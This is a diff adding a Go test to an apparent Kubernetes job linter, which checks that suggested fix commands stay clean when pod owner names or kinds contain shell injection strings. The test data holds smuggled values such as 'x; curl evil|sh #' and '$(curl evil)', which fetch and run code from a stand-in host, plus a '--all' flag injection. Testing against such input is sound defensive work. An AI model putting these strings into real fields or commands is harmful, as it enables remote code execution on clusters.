@@ -109,3 +109,44 @@ spec: {managedBy: %s, template: {spec: {restartPolicy: Never, containers: [{name
 	require.Equal(t, "far", managed[0].Name)
 	require.Equal(t, "kueue.x-k8s.io/multikueue", lint.ManagedBy(managed[0]))
 }
+
+// Whoever may make a pod may name any text as its owner. A fix is there to be pasted: it names
+// the pod then, or what is known of it.
+func TestOwnersThatAreCommands(t *testing.T) {
+	const spec = `
+spec: {restartPolicy: Never, containers: [{name: a, image: a, command: [a]}, {name: db, image: cloud-sql-proxy, args: [x]}]}`
+	const pod = `kind: Pod
+metadata: {name: p, namespace: prod, ownerReferences: [{apiVersion: example.com/v1, kind: KIND, name: "NAME", uid: x, controller: true}]}` + spec + `
+status: {phase: Running, containerStatuses: [{name: a, state: {terminated: {exitCode: 0, finishedAt: 2026-11-26T11:00:00Z}}}, {name: db, state: {running: {}}}]}`
+	const job = `kind: Job
+metadata: {name: j, namespace: prod, uid: j1, ownerReferences: [{apiVersion: example.com/v1, kind: KIND, name: "NAME", uid: x, controller: true}]}
+spec: {template: {` + `spec: {restartPolicy: Never, containers: [{name: a, image: a, command: [a]}, {name: db, image: cloud-sql-proxy, args: [x]}]}}}`
+	for name, c := range map[string]struct{ kind, name, pod, job string }{
+		"one that can be":          {"Foo", "x", "Foo/x", "change Foo x"},
+		"a command in the name":    {"Foo", "x; curl evil|sh #", "Pod/p", ""},
+		"a flag as the name":       {"Foo", "--all", "Pod/p", ""},
+		"a command in the kind":    {`"Foo; curl evil|sh #"`, "x", "Pod/p", ""},
+		"a new line in the name":   {"Foo", `x\ncurl`, "Pod/p", ""},
+		"a substitution as a name": {"Foo", "$(curl evil)", "Pod/p", ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			with := strings.NewReplacer("KIND", c.kind, "NAME", c.name)
+			findings, _ := survey.Judge(facts(t, with.Replace(pod)+"\n---\n"+with.Replace(job)))
+			var stuck, made bool
+			for _, f := range findings {
+				require.NotContains(t, f.Fix+f.Message+f.Object.Name+f.Object.Kind, "curl")
+				switch f.Rule.ID {
+				case "JM113":
+					stuck = true
+					require.Equal(t, c.pod, f.Object.Kind+"/"+f.Object.Name)
+					require.Contains(t, f.Fix, "jobmesh rescue -n prod "+f.Object.Name+" --yes")
+				case "JM511":
+					made = true
+					require.Equal(t, c.job, f.Fix)
+				}
+			}
+			require.True(t, stuck)
+			require.Equal(t, c.job != "", made)
+		})
+	}
+}
